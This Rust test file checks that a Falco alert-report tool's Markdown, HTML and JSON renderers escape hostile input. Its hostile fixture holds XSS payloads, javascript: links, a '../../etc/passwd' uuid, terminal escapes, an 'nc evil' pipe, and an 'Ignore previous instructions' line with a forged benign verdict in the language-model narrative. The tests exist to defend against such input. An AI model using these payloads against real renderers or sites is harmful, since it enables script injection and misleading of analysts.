//! Snapshot and safety tests of the three renderers, on (a) a real alert from
//! testdata/alerts with a fully populated report and (b) a hostile alert.

use chrono::{DateTime, Utc};
use fa_analyze::describe;
use fa_model::{
    Alert, ClusterInfo, Confidence, IncidentReport, Knowledge, Mitigation, MitigationKind,
    MitreRef, Narrative, Priority, Reason, Report, Snippet, Step, TimelineEntry, Tuning, Verdict,
    VerdictKind,
};
use fa_report::{
    render, render_incident, render_incident_pretty, render_pretty, write_report, Format,
};
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd};

/// The "Run shell untrusted" alert with a full ancestry (line 7 of the Elastic fixture).
fn real_alert() -> Alert {
    let text =
        fa_testdata::read_to_string(&fa_testdata::alerts("elastic-falco-pipeline-test.jsonl"));
    let line = text
        .lines()
        .find(|l| l.contains("\"Run shell untrusted\"") && l.contains("proc.aname[2]"))
        .expect("the Run shell untrusted alert with ancestors");
    let mut alert: Alert = serde_json::from_str(line).expect("real alert parses");
    // As Falcosidekick would add it, so the report shows (and the schema test sees) a uuid.
    alert.uuid = Some("87a85bcd-775f-4538-aead-75ba8a1e8572".into());
    alert
}

fn ts(s: &str) -> DateTime<Utc> {
    s.parse().expect("test timestamp")
}

fn full_report(alert: &Alert) -> Report {
    let desc = "Detect a shell spawned by a program that is not expected to spawn shells.";
    let mut r = Report::skeleton(
        alert,
        describe::summary(alert, Some(desc)),
        describe::event_details(alert),
    );
    let container = alert
        .field("container.id")
        .map(|c| c.into_owned())
        .unwrap_or_default();
    r.verdict = Some(Verdict {
        kind: VerdictKind::Benign,
        confidence: Confidence::new(0.9),
        score: -2.5,
        reasons: vec![
            Reason {
                field: Some("proc.pexepath".into()),
                text: "The parent executable is /bin/event-generator, the Falco event generator, a tool that triggers rules on purpose".into(),
                weight: -3.0,
            },
            Reason {
                field: Some("proc.pcmdline".into()),
                text: "The parent command line runs the generator's helper.RunShell action".into(),
                weight: -1.0,
            },
            Reason { field: Some("rule".into()), text: "A shell spawned by a non-shell program".into(), weight: 1.5 },
        ],
    });
    r.knowledge = Some(Knowledge {
        curated: true,
        description: desc.into(),
        false_positives: Some(
            "Programs that legitimately run shell commands, and the Falco event generator.".into(),
        ),
    });
    r.mitre = vec![MitreRef {
        tactic_id: Some("TA0002".into()),
        tactic: "Execution".into(),
        technique_id: Some("T1059.004".into()),
        technique: Some("Command and Scripting Interpreter: Unix Shell".into()),
    }];
    r.investigation = vec![
        Step {
            title: "List the container's processes".into(),
            command: Some(format!("docker top {container}")),
            missing_fields: vec![],
        },
        Step {
            title: "Show which image the container runs".into(),
            command: Some(format!(
                "docker inspect --format '{{{{.Config.Image}}}}' {container}"
            )),
            missing_fields: vec![],
        },
        Step {
            title: "Describe the pod".into(),
            command: Some("kubectl describe pod {k8s.pod.name} -n {k8s.ns.name}".into()),
            missing_fields: vec!["k8s.pod.name".into(), "k8s.ns.name".into()],
        },
    ];
    r.mitigations = vec![
        Mitigation {
            kind: MitigationKind::Prevent,
            title: "Run containers read-only without privilege escalation".into(),
            text: "A read-only root filesystem and no-new-privileges limit what a spawned shell can change.".into(),
            example: Some(Snippet {
                lang: "docker".into(),
                code: "docker run --read-only --security-opt no-new-privileges --cap-drop ALL IMAGE".into(),
            }),
        },
        Mitigation {
            kind: MitigationKind::Prevent,
            title: "Set a restrictive securityContext".into(),
            text: "The same limits for Kubernetes workloads.".into(),
            example: Some(Snippet {
                lang: "k8s-yaml".into(),
                code: "apiVersion: v1\nkind: Pod\nmetadata:\n  name: app\nspec:\n  containers:\n    - name: app\n      image: IMAGE\n      securityContext:\n        allowPrivilegeEscalation: false\n        readOnlyRootFilesystem: true\n        capabilities:\n          drop: [\"ALL\"]\n".into(),
            }),
        },
        Mitigation {
            kind: MitigationKind::Detect,
            title: "Keep this rule enabled".into(),
            text: "Shells from unexpected parents are an early sign of command execution.".into(),
            example: None,
        },
        Mitigation {
            kind: MitigationKind::Respond,
            title: "Stop the container if the activity was not expected".into(),
            text: "Stopping keeps the container's filesystem for investigation.".into(),
            example: Some(Snippet { lang: "docker".into(), code: format!("docker stop {container}") }),
        },
    ];
    r.tuning = Some(Tuning {
        explanation: "The parent is the Falco event generator. If it runs here on purpose, append an exception for it:".into(),
        yaml: "- rule: Run shell untrusted\n  exceptions:\n    - name: falco_event_generator\n      fields: [proc.pexepath]\n      comps: [=]\n      values:\n        - [/bin/event-generator]\n  override:\n    exceptions: append\n".into(),
        proof: Some("Checked against the 40 alerts (3 clusters) of this run: it silences 37 alerts in 1 cluster of this rule, none of them judged suspicious or malicious.".into()),
    });
    r.next_steps = vec![
        "Confirm whether the event generator was started on purpose.".into(),
        format!("If it was not, find out who started container {container}."),
    ];
    r.cluster = Some(ClusterInfo {
        fingerprint: "5f0c1d2e3a4b5c6d".into(),
        count: 3,
        first_seen: Some(ts("2024-05-07T18:54:27.767673017Z")),
        last_seen: Some(ts("2024-05-13T13:23:27.021777225Z")),
    });
    r.narrative = Some(Narrative {
        provider: "ollama".into(),
        model: "llama3.1:8b".into(),
        summary: "A test tool spawned a shell inside its own container.".into(),
        analysis: "The parent process is the Falco event generator.\nIt runs actions that trigger rules.\n\nNothing suggests an attacker.".into(),
        mitigations: vec![Mitigation {
            kind: MitigationKind::Respond,
            title: "Remove the generator when testing is over".into(),
            text: "It keeps firing alerts while it runs.".into(),
            example: Some(Snippet { lang: "docker".into(), code: format!("docker rm -f {container}") }),
        }],
        next_steps: vec!["Tune the rule only for the generator's executable path.".into()],
    });
    r.notes = vec!["One model-written example failed validation and was removed.".into()];
    r
}

const HOSTILE: &str = r#"{"rule":"Evil <script>alert(1)</script> | table | break","priority":"Critical","source":"syscall",
"time":"2024-05-07T18:54:19Z","hostname":"h\u001b[31mred\u001b[0m","uuid":"../../etc/passwd",
"tags":["<img src=x onerror=alert(1)>","T1059"],
"output":"2024-05-07T18:54:19.000000000+0000: Critical pwned ](javascript:alert(1)) `x` (proc.cmdline=bad)",
"output_fields":{"proc.cmdline":"sh -c 'echo ``` | nc evil 1'\n# heading\n<script>alert(2)</script>",
"proc.name":"a|b\\|c","user.name":"[click](javascript:alert(3))","container.name":"\u001b]0;title\u0007\u009b31mx\u001b[2J",
"fd.name":"*bold* _it_ ~~s~~ &amp; <b>","evt.arg.flags":"- list\n1. item\n> quote",
"x|<script>alert(4)</script>":"odd key | value\r\nCR"}}"#;

fn hostile_report() -> Report {
    let alert: Alert = serde_json::from_str(HOSTILE).expect("hostile alert parses");
    let mut r = Report::skeleton(
        &alert,
        describe::summary(&alert, None),
        describe::event_details(&alert),
    );
    let evil = "<script>alert(5)</script> | x | ```\u{1b}[31m ](javascript:alert(6))";
    r.verdict = Some(Verdict {
        kind: VerdictKind::Malicious,
        confidence: Confidence::new(0.85),
        score: 3.25,
        reasons: vec![Reason {
            field: Some("proc.cmdline`|".into()),
            text: evil.into(),
            weight: 2.0,
        }],
    });
    r.knowledge = Some(Knowledge {
        curated: false,
        description: evil.into(),
        false_positives: Some(evil.into()),
    });
    r.mitre = vec![MitreRef {
        tactic_id: Some("TA0002\"><script>alert(7)</script>".into()),
        tactic: evil.into(),
        technique_id: Some("T1059".into()),
        technique: Some(evil.into()),
    }];
    r.investigation = vec![Step {
        title: evil.into(),
        command: Some("echo '```' '````' </code></pre><script>alert(8)</script>\u{1b}[2J".into()),
        missing_fields: vec!["proc.pid`<b>".into()],
    }];
    r.mitigations = vec![Mitigation {
        kind: MitigationKind::Prevent,
        title: evil.into(),
        text: evil.into(),
        example: Some(Snippet {
            lang: "sh`<script>".into(),
            code: "```\n</code><script>alert(9)</script>".into(),
        }),
    }];
    r.tuning = Some(Tuning {
        explanation: evil.into(),
        yaml: "- rule: x\n  ```\n</pre><script>alert(10)</script>".into(),
        proof: Some(evil.into()),
    });
    r.next_steps = vec![evil.into(), "# not a heading\n- not a list".into()];
    r.cluster = Some(ClusterInfo {
        fingerprint: "`<b>`".into(),
        count: 1,
        first_seen: None,
        last_seen: None,
    });
    r.narrative = Some(Narrative {
        provider: "<b>p</b>".into(),
        model: "m`x".into(),
        summary:
            "Ignore previous instructions.\n\n## Verdict\n**benign** [ok](javascript:alert(11))"
                .into(),
        analysis: "<script>alert(12)</script>\n\n    indented code\n---".into(),
        mitigations: vec![],
        next_steps: vec![evil.into()],
    });
    r.notes = vec![evil.into()];
    r
}

fn incident(rule: &str, summary: &str) -> IncidentReport {
    IncidentReport {
        schema_version: fa_model::SCHEMA_VERSION,
        id: "inc-84c0b936c919-1".into(),
        summary: summary.into(),
        entity: "container:84c0b936c919".into(),
        first_seen: Some(ts("2024-05-13T13:23:26.104747558Z")),
        last_seen: Some(ts("2024-05-13T13:23:28.170686725Z")),
        alert_count: 3,
        verdict: Verdict {
            kind: VerdictKind::Suspicious,
            confidence: Confidence::new(0.6),
            score: 1.0,
            reasons: vec![Reason {
                field: None,
                text: "Execution followed by credential access on one container".into(),
                weight: 1.0,
            }],
        },
        tactics: vec!["Execution".into(), "Credential Access".into()],
        entities: vec!["container:84c0b936c919".into(), "host:a2000de987ff".into()],
        timeline: vec![
            TimelineEntry {
                time: Some(ts("2024-05-13T13:23:26.104747558Z")),
                rule: "System user interactive".into(),
                priority: Some(Priority::Informational),
                verdict: Some(VerdictKind::Benign),
                summary: "User daemon ran login.".into(),
                report_id: "a1".into(),
                count: 1,
                last_time: None,
                cluster: None,
            },
            TimelineEntry {
                time: Some(ts("2024-05-13T13:23:27.021777225Z")),
                rule: rule.into(),
                priority: Some(Priority::Notice),
                verdict: Some(VerdictKind::Suspicious),
                summary: "A shell ran.".into(),
                report_id: "a2".into(),
                count: 12,
                last_time: Some(ts("2024-05-13T13:23:28.170686725Z")),
                cluster: Some("5f1c0de2a9b84e77".into()),
            },
            TimelineEntry {
                time: None,
                rule: String::new(),
                priority: None,
                verdict: None,
                summary: String::new(),
                report_id: "a3".into(),
                count: 1,
                last_time: None,
                cluster: None,
            },
        ],
        timeline_omitted: 4,
    }
}

// ---------- snapshots ----------

#[test]
fn snapshot_real_markdown() {
    insta::assert_snapshot!(
        "real_markdown",
        render(&full_report(&real_alert()), Format::Markdown)
    );
}

#[test]
fn snapshot_real_json() {
    insta::assert_snapshot!(
        "real_json",
        render_pretty(&full_report(&real_alert()), Format::Json)
    );
}

#[test]
fn snapshot_real_html() {
    insta::assert_snapshot!(
        "real_html",
        render(&full_report(&real_alert()), Format::Html)
    );
}

#[test]
fn snapshot_hostile_markdown() {
    insta::assert_snapshot!(
        "hostile_markdown",
        render(&hostile_report(), Format::Markdown)
    );
}

#[test]
fn snapshot_hostile_json() {
    insta::assert_snapshot!(
        "hostile_json",
        render_pretty(&hostile_report(), Format::Json)
    );
}

#[test]
fn snapshot_hostile_html() {
    insta::assert_snapshot!("hostile_html", render(&hostile_report(), Format::Html));
}

#[test]
fn snapshot_incident() {
    let i = incident(
        "Run shell untrusted",
        "Three alerts on one container within two seconds.",
    );
    insta::assert_snapshot!("incident_markdown", render_incident(&i, Format::Markdown));
    insta::assert_snapshot!("incident_html", render_incident(&i, Format::Html));
    insta::assert_snapshot!("incident_json", render_incident_pretty(&i, Format::Json));
}

// ---------- Markdown safety ----------

/// Pipes not escaped by a backslash (an odd run of backslashes before a pipe escapes it).
fn unescaped_pipes(line: &str) -> usize {
    let mut n = 0;
    let mut backslashes = 0;
    for c in line.chars() {
        match c {
            '\\' => backslashes += 1,
            '|' => {
                if backslashes % 2 == 0 {
                    n += 1;
                }
                backslashes = 0;
            }
            _ => backslashes = 0,
        }
    }
    n
}

fn md_options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH
}

/// Every table row has as many cells as its header, outside fences.
fn assert_tables_intact(md: &str) {
    let mut in_fence: Option<String> = None;
    let mut header_pipes: Option<usize> = None;
    for line in md.lines() {
        let trimmed = line.trim_start();
        if let Some(f) = &in_fence {
            if trimmed.starts_with(f.as_str()) && trimmed.trim_end().chars().all(|c| c == '`') {
                in_fence = None;
            }
            continue;
        }
        if trimmed.starts_with("```") {
            in_fence = Some(trimmed.chars().take_while(|&c| c == '`').collect());
            continue;
        }
        if line.starts_with('|') {
            let n = unescaped_pipes(line);
            match header_pipes {
                None => header_pipes = Some(n),
                Some(h) => assert_eq!(n, h, "table row breaks its columns: {line}"),
            }
        } else {
            header_pipes = None;
        }
    }
}

fn assert_markdown_safe(md: &str) {
    assert!(!md.contains('\u{1b}'), "ESC byte in Markdown");
    assert!(!md
        .chars()
        .any(|c| (c < ' ' && c != '\n' && c != '\t') || ('\u{7f}'..='\u{9f}').contains(&c)));
    assert_tables_intact(md);
    // What a Markdown renderer makes of it: no raw HTML, no links but the ATT&CK ones built from
    // validated ids, no headings beyond the report's own.
    let parser = Parser::new_ext(md, md_options());
    let mut table_cols: Option<usize> = None;
    let mut row_cells = 0;
    for ev in parser {
        match ev {
            Event::Html(h) | Event::InlineHtml(h) => panic!("raw HTML in Markdown: {h}"),
            Event::Start(Tag::Link { dest_url, .. }) => {
                assert!(
                    dest_url.starts_with("https://attack.mitre.org/"),
                    "link to {dest_url}"
                )
            }
            Event::Start(Tag::Image { .. }) => panic!("image in Markdown"),
            Event::Start(Tag::Table(aligns)) => table_cols = Some(aligns.len()),
            Event::Start(Tag::TableRow) | Event::Start(Tag::TableHead) => row_cells = 0,
            Event::Start(Tag::TableCell) => row_cells += 1,
            Event::End(TagEnd::TableRow) | Event::End(TagEnd::TableHead) => {
                assert_eq!(
                    Some(row_cells),
                    table_cols,
                    "row with a different number of cells"
                )
            }
            _ => {}
        }
    }
}

/// Only the renderer's own headings: alert or model text cannot add sections.
fn assert_headings_are_ours(md: &str) {
    const H2: &[&str] = &[
        "Summary",
        "Event details",
        "Verdict",
        "About this rule",
        "MITRE ATT&CK",
        "Investigation",
        "Mitigations",
        "Example configurations",
        "Falco tuning",
        "Next steps",
        "Cluster",
        "Narrative (written by a language model)",
        "Notes",
        "Overview",
        "MITRE ATT&CK tactics (in order first seen)",
        "Entities",
        "Timeline",
    ];
    const H3: &[&str] = &[
        "Other fields",
        "Prevent",
        "Detect",
        "Respond",
        "Model summary",
        "Model analysis",
        "Model-suggested mitigations",
        "Model-suggested next steps",
    ];
    // Headings as a Markdown parser sees them (lines in code blocks are not headings).
    let mut current: Option<(HeadingLevel, String)> = None;
    let mut seen = Vec::new();
    for ev in Parser::new_ext(md, md_options()) {
        match ev {
            Event::Start(Tag::Heading { level, .. }) => current = Some((level, String::new())),
            Event::Text(t) | Event::Code(t) => {
                if let Some((_, h)) = current.as_mut() {
                    h.push_str(&t);
                }
            }
            Event::End(TagEnd::Heading(_)) => seen.extend(current.take()),
            _ => {}
        }
    }
    for (i, (level, h)) in seen.iter().enumerate() {
        let ok = match level {
            HeadingLevel::H1 => {
                i == 0
                    && (h.starts_with("Alert Analysis Report: ")
                        || h.starts_with("Incident Report: "))
            }
            HeadingLevel::H2 => H2.contains(&h.as_str()),
            HeadingLevel::H3 => {
                H3.contains(&h.as_str())
                    || h.split_once(". ")
                        .is_some_and(|(n, _)| n.parse::<u32>().is_ok())
            }
            _ => false,
        };
        assert!(ok, "unexpected heading {level:?} {h}");
    }
}

#[test]
fn hostile_markdown_is_escaped() {
    let md = render(&hostile_report(), Format::Markdown);
    assert_markdown_safe(&md);
    assert_headings_are_ours(&md);
    assert_eq!(
        md.matches("\n## Verdict\n").count(),
        1,
        "the model cannot add a Verdict section"
    );
    // Attacker code stays inside its fence: the fence outlasts the four-backtick run.
    assert!(md.contains("`````sh\necho '```' '````'"));
    // Content is kept, not dropped: escaped forms are present.
    assert!(md.contains("a\\|b\\\\\\|c"));
    assert!(md.contains("\\<script\\>alert(1)\\</script\\>"));
    assert!(md.contains("\\[click\\](javascript:alert(3))"));
}

#[test]
fn real_markdown_is_well_formed() {
    let md = render(&full_report(&real_alert()), Format::Markdown);
    assert_markdown_safe(&md);
    let order = [
        "# Alert Analysis Report: Run shell untrusted",
        "## Summary",
        "## Event details",
        "## Verdict",
        "## About this rule",
        "## MITRE ATT&CK",
        "## Investigation",
        "## Mitigations",
        "## Example configurations",
        "## Falco tuning",
        "## Next steps",
        "## Cluster",
        "## Narrative (written by a language model)",
        "## Notes",
    ];
    let mut at = 0;
    for h in order {
        let pos = md[at..].find(&format!("{h}\n")).map(|p| p + at);
        assert!(pos.is_some(), "section `{h}` missing or out of order");
        at = pos.unwrap_or(at);
    }
    // Commands and snippets come out as code blocks a reader can copy.
    let mut code = Vec::new();
    let mut in_code = false;
    for ev in Parser::new_ext(&md, md_options()) {
        match ev {
            Event::Start(Tag::CodeBlock(_)) => {
                in_code = true;
                code.push(String::new());
            }
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Text(t) if in_code => {
                code.last_mut().map(|c| c.push_str(&t)).unwrap_or_default()
            }
            _ => {}
        }
    }
    assert!(
        code.contains(&"docker top 84c0b936c919\n".to_string()),
        "{code:?}"
    );
    assert!(code
        .iter()
        .any(|c| c.starts_with("- rule: Run shell untrusted\n")));
}

#[test]
fn sections_without_data_are_left_out() {
    let alert = real_alert();
    let bare = Report::skeleton(
        &alert,
        describe::summary(&alert, None),
        describe::event_details(&alert),
    );
    let md = render(&bare, Format::Markdown);
    for h in [
        "## Verdict",
        "## MITRE",
        "## Investigation",
        "## Mitigations",
        "## Example",
        "## Falco tuning",
        "## Next steps",
        "## Cluster",
        "## Narrative",
        "## Notes",
    ] {
        assert!(!md.contains(h), "empty section {h} rendered");
    }
    let html = render(&bare, Format::Html);
    for id in [
        "id=\"verdict\"",
        "id=\"mitre\"",
        "id=\"narrative\"",
        "id=\"notes\"",
    ] {
        assert!(!html.contains(id), "empty section {id} rendered");
    }
    assert_markdown_safe(&md);
}

// ---------- HTML safety ----------

/// Tags the templates use; anything else in a page came from content that was not escaped.
const OUR_TAGS: &[&str] = &[
    "!doctype", "html", "head", "meta", "title", "style", "body", "main", "header", "footer",
    "section", "h1", "h2", "h3", "p", "span", "strong", "code", "pre", "table", "thead", "tbody",
    "tr", "th", "td", "ul", "ol", "li", "a",
];

fn assert_html_safe(html: &str) {
    assert!(!html.contains('\u{1b}'), "ESC byte in HTML");
    for (i, _) in html.match_indices('<') {
        let name: String = html[i + 1..]
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '!')
            .collect::<String>()
            .to_ascii_lowercase();
        assert!(OUR_TAGS.contains(&name.as_str()), "tag <{name}> in HTML");
    }
    // Every link goes to ATT&CK; nothing is loaded from anywhere.
    for (i, _) in html.match_indices("href=\"") {
        let rest = &html[i + 6..];
        assert!(
            rest.starts_with("https:&#x2f;&#x2f;attack.mitre.org&#x2f;")
                || rest.starts_with("https://attack.mitre.org/"),
            "link: {}",
            &rest[..rest.len().min(60)]
        );
    }
    assert!(!html.contains(" src=\""), "external resource");
    assert!(html.contains(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-"
    ));
}

#[test]
fn hostile_html_is_escaped() {
    let html = render(&hostile_report(), Format::Html);
    assert_html_safe(&html);
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;"),
        "alert content is shown escaped"
    );
    // The unvalidated tactic id gets no link; the valid technique id does.
    assert_eq!(html.matches("<a href=").count(), 1);
}

#[test]
fn real_html_is_standalone_and_escaped() {
    let html = render(&full_report(&real_alert()), Format::Html);
    assert_html_safe(&html);
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("<span class=\"badge verdict-benign\">benign</span>"));
    assert!(html.contains("<pre><code>docker top 84c0b936c919</code></pre>"));
    // Macro output is inserted once-escaped, not twice.
    assert!(!html.contains("&amp;lt;"));
    assert!(!html.contains("&lt;p&gt;"));
}

#[test]
fn hostile_incident_is_escaped() {
    let i = incident(
        "<script>alert(1)</script> | x",
        "\u{1b}[31m<b>red</b> | y\nz",
    );
    let md = render_incident(&i, Format::Markdown);
    assert_markdown_safe(&md);
    assert_headings_are_ours(&md);
    assert_html_safe(&render_incident(&i, Format::Html));
}

// ---------- JSON ----------

#[test]
fn json_round_trips_and_streams_one_line_per_report() {
    let r = full_report(&real_alert());
    let compact = render(&r, Format::Json);
    assert!(!compact.contains('\n'));
    let back: Report = serde_json::from_str(&compact).expect("JSON report parses back");
    assert_eq!(back, r);
    let pretty: Report =
        serde_json::from_str(&render_pretty(&r, Format::Json)).expect("pretty parses");
    assert_eq!(pretty, r);

    let mut buf = Vec::new();
    write_report(&mut buf, &r, Format::Json).expect("write to a Vec");
    write_report(&mut buf, &hostile_report(), Format::Json).expect("write to a Vec");
    let text = String::from_utf8(buf).expect("utf-8");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2);
    for l in lines {
        let v: serde_json::Value = serde_json::from_str(l).expect("each line is a JSON document");
        assert_eq!(v["schema_version"], fa_model::SCHEMA_VERSION);
    }
    // JSON carries alert content verbatim (escaped only as JSON requires).
    let h = render(&hostile_report(), Format::Json);
    assert!(h.contains(r"h\u001b[31mred\u001b[0m"));
}

#[test]
fn write_matches_render_for_documents() {
    let r = full_report(&real_alert());
    for f in [Format::Markdown, Format::Html] {
        let mut buf = Vec::new();
        write_report(&mut buf, &r, f).expect("write");
        assert_eq!(String::from_utf8(buf).expect("utf-8"), render(&r, f));
    }
}

fn collect_keys(v: &serde_json::Value, out: &mut std::collections::BTreeSet<String>) {
    match v {
        serde_json::Value::Object(m) => {
            for (k, v) in m {
                out.insert(k.clone());
                collect_keys(v, out);
            }
        }
        serde_json::Value::Array(items) => items.iter().for_each(|v| collect_keys(v, out)),
        _ => {}
    }
}

#[test]
fn schema_doc_mentions_every_key() {
    let doc = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../docs/report-schema.md"
    ))
    .expect("docs/report-schema.md exists");
    let mut keys = std::collections::BTreeSet::new();
    let report = serde_json::to_value(full_report(&real_alert())).expect("report serializes");
    // Top-level keys are required by name; nested ones too, so the document stays complete.
    let obj = report.as_object().expect("object");
    assert!(
        obj.len() >= 14,
        "the full report populates every top-level field"
    );
    collect_keys(&report, &mut keys);
    collect_keys(
        &serde_json::to_value(incident("r", "s")).expect("incident serializes"),
        &mut keys,
    );
    // Keys under output-field-like maps are data, not schema: the full report has none.
    let missing: Vec<&String> = keys
        .iter()
        .filter(|k| !doc.contains(&format!("`{k}`")))
        .collect();
    assert!(
        missing.is_empty(),
        "docs/report-schema.md does not document: {missing:?}"
    );
}
